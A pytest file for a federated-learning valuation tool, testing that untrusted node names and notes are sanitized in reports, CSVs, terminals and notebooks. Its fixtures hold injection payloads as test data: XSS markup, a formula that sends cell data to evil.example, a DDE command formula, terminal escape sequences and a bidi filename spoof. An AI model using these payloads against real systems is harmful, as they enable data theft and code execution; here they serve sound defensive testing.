"""Nodes are called as they were registered, whatever they say; what they say of themselves is a claim, and text."""

import json

import numpy as np
import pandas as pd
import pytest
from flwr.app import ConfigRecord, Context, RecordDict
from flwr.app import Message as FlowerMessage
from hypothesis import given
from hypothesis import strategies as st

import fedbary as fb
from fedbary.engines.coordinator import RunConfig
from fedbary.engines.nodes import NodeNames, distinct_names
from fedbary.notes import Note
from fedbary.views.tables import valuation_text
from fedbary_flower.choosing import from_result
from fedbary_flower.client_app import app
from fedbary_flower.server_app import app as server_app
from fedbary_flower.server_app import valued
from inprocess import InProcessGrid, raised

MARKUP = '<img src=x onerror="document.title=`PWNED`"><script>document.title="PWNED"</script>'
CLAIMS = {
    1: '=HYPERLINK("http://evil.example/?"&A2,"ok")',
    2: "\x1b]0;PWNED\x07\x1b[2J\x1b[31mclinic",
    3: MARKUP,
    4: "north",
    5: "north\u202egnp.exe\r\nnode-1",
}
SAID = {
    1: "=cmd|' /C calc'!A0",
    2: "\x1b[2J\x1b[1;1H\x1b[32mAll clients fine\r\n[red]bold[/red]",
    3: MARKUP + "{{7*7}}",
    4: json.dumps([{"code": "schema.unknown-classes", "facts": {"names": [MARKUP, "=1+1"], "count": 2}}]),
    5: json.dumps([{"code": "engines.claims-name", "facts": {"name": "south"}}]),
}


def tables(count, rows=40):
    rng = np.random.default_rng(0)

    def drawn():
        kinds = rng.integers(0, 2, rows)
        columns = {f"x{i}": kinds * 2.0 + rng.normal(size=rows) for i in range(3)}
        return pd.DataFrame(columns).assign(label=np.array(["no", "yes"])[kinds])

    return [drawn() for _ in range(count)]


@pytest.fixture
def federation(tmp_path):
    """Five nodes that are registered by decent names, and what a run needs."""
    *clients, reference = tables(6)
    nodes = {}
    for node, frame in enumerate(clients, 1):
        frame.to_csv(tmp_path / f"{node}.csv", index=False)
        home = {"data-path": str(tmp_path / f"{node}.csv"), "state-path": str(tmp_path / "state")}
        nodes[node] = {**home, "name": f"clinic {node}", "report": False}
    reference.to_csv(tmp_path / "reference.csv", index=False)
    given = {
        "protocol": "sketch",
        "reference": str(tmp_path / "reference.csv"),
        "num-nodes": 5,
        "output": str(tmp_path / "out"),
    }
    return nodes, RunConfig.of({**given, "timeout": 5.0, "poll": 0.001, "retries": 0})


def lying(node, **more):
    """An honest answer under another name, with notes of the node's own."""

    def fault(message, honest):
        content = honest().content
        head = {**content["fedbary"], "name": CLAIMS[node], **more}
        records = {"fedbary": ConfigRecord(head), "scalars": content["scalars"], "arrays": content["arrays"]}
        return FlowerMessage(RecordDict(records), reply_to=message)

    return fault


def written(folder):
    return {file.name: file.read_bytes() for file in folder.rglob("*") if file.is_file()}


def test_a_result_has_the_registered_names_and_ids_and_shows_other_names_as_claims(federation):
    nodes, config = federation
    names = {1: "north", 2: "north", 3: "south", 4: "", 5: "east"}
    grid = InProcessGrid(app, nodes, {node: lying(node) for node in CLAIMS}, registered=names)
    result = valued(grid, config)
    labels = ["north (node-1)", "north (node-2)", "south", "node-4", "east"]
    assert result.clients["client"].tolist() == labels
    assert result.clients["node"].tolist() == ["1", "2", "3", "4", "5"]
    assert result.settings["nodes"] == dict(zip(labels, range(1, 6), strict=True))
    assert not result.failed
    claims = {name: outcome.notes[-1] for name, outcome in result.outcomes.items()}
    assert claims["node-4"] == Note("engines.claims-name", {"name": "north"})
    assert all(note.code == "engines.claims-name" for note in claims.values())
    # A claim takes nobody's place: neither among the results nor where training asks for nodes.
    assert {node.id for node in from_result(result, k=5).nodes} == set(nodes)
    assert set(result.nodes(k=5)) == set(nodes)

    result.save(config.output)
    again = fb.Valuation.load(config.output)
    assert again.clients["client"].tolist() == labels
    assert again.settings["nodes"] == result.settings["nodes"]


@pytest.mark.parametrize("speaking", ["names", "notes", "failures", "registrations"])
def test_what_a_node_says_is_text_wherever_it_is_shown(federation, speaking):
    nodes, config = federation
    names = {node: f"clinic {node}" for node in nodes}

    def words(node):
        if speaking in ("names", "registrations"):
            return {}
        if speaking == "notes":
            return {"notes": SAID[node]}
        facts = {"name": CLAIMS[3], "owner": "=1+1", "expected": "[red]x[/red]", "got": "@SUM(1)"}
        return {"failure": "failed", "note": json.dumps({"code": "settings.parameter", "facts": facts})}

    registered = CLAIMS if speaking == "registrations" else names  # the control port lets everybody register
    grid = InProcessGrid(app, nodes, {node: lying(node, **words(node)) for node in CLAIMS}, registered=registered)
    result = valued(grid, config)
    labels = result.clients["client"].tolist()
    assert labels == list(names.values()) or speaking == "registrations"
    result.save(config.output)
    result.report(config.output / "report.html")
    files = written(config.output)
    files |= {"terminal": valuation_text(result).encode(), "markdown": result.to_markdown().encode()}
    files |= {"notebook": result._repr_html_().encode()}
    assert {"clients.csv", "valuation.json", "events.jsonl", "report.html"} <= files.keys()
    for name, content in files.items():
        if name.endswith((".parquet", ".npy")):
            continue
        text = content.decode("utf-8")
        assert not any(hidden in text for hidden in ("\x1b", "\x07", "\u202e")), name
        if name in ("report.html", "notebook", "markdown"):
            shown = text.replace("\\<", "")  # how Markdown escapes it
            assert "<img src=x" not in shown, name
            assert "<script>document.title" not in shown, name
    table = pd.read_csv(config.output / "clients.csv", dtype=str, keep_default_na=False)
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in table.to_numpy().ravel())
    assert len(table) == 5
    events = [json.loads(line) for line in files["events.jsonl"].decode().splitlines()]
    assert {event["client"] for event in events if "client" in event} == set(labels)


def test_a_node_cannot_fill_the_screen_with_notes(federation, capsys):
    nodes, config = federation
    facts = {"count": 9, "classes": ["x" * 400] * 50}
    many = json.dumps([{"code": "schema.unknown-classes", "facts": facts}])
    repeated = json.dumps([{"code": "schema.ignores-columns", "facts": {"count": 2}}] * 50)
    grid = InProcessGrid(app, nodes, {1: lying(1, notes=repeated), 2: lying(2, notes=many)})
    context = Context(
        1,
        0,
        {},
        RecordDict(),
        {"protocol": "sketch", "reference": str(config.reference), "num-nodes": 5, "poll": 0.001},
    )
    context.run_config |= {"output": str(config.output), "timeout": 5.0}
    server_app(grid, context)
    lines = capsys.readouterr().out.splitlines()
    assert {line.split()[1] for line in lines if line.startswith("clinic")} >= set("12345")
    assert len(lines) < 26  # the verdict, the table, and at most six lines of each noisy client
    assert max(map(len, lines)) <= 80
    saved = fb.Valuation.load(config.output)
    assert Note("schema.ignores-columns", {"count": 2}) in saved.outcomes["clinic 1"].notes
    assert all(len(text) < 400 for text in saved.clients["notes"])


def test_a_node_that_answers_nothing_is_known_by_its_registration(federation):
    nodes, config = federation
    result = valued(InProcessGrid(app, nodes, {2: raised}), config)
    assert list(result.failed) == ["clinic 2"]
    # Nothing is said of whom it is; of 40 rows that were drawn, some scatter more than others.
    assert {note.code for note in result.outcomes["clinic 1"].notes} <= {"judging.blur"}


def test_an_answer_in_the_name_of_another_node_is_refused(federation):
    """Flower looks whose key a request is signed with, not in whose name the reply inside it speaks."""
    nodes, config = federation
    sent = {}

    def overheard(message, honest):
        sent["reply"] = honest()
        return sent["reply"]

    def in_its_name(message, honest):
        return FlowerMessage(sent["reply"].content, reply_to=message)

    result = valued(InProcessGrid(app, nodes, {1: overheard, 2: in_its_name}), config)
    assert {name: outcome.notes[0].code for name, outcome in result.outcomes.items() if not outcome.ok} == {
        "clinic 2": "engines.reply-of-another-node"
    }


@given(
    st.dictionaries(
        st.integers(1, 99).map(str), st.sampled_from(["a", "A", "ａ", "a (node-1)", "a (node-2)", "node-1", ""])
    )
)
def test_labels_are_all_different_even_where_names_look_like_labels(names):
    known = NodeNames(simulated=False)
    known.register(names)
    labels = [known.label(node) for node in names]
    assert len({label.casefold() for label in labels}) == len(labels)
    assert all(labels)


def test_two_of_one_name_are_both_told_apart():
    assert distinct_names({"1": "north", "2": "north"}) == {"1": "north (node-1)", "2": "north (node-2)"}


def test_a_registered_name_is_cleaned_too():
    known = NodeNames(simulated=False)
    known.register({"1": "\x1b[31mnorth\n" + "x" * 500})
    assert known.label("1").isprintable()
    assert len(known.label("1")) < 80
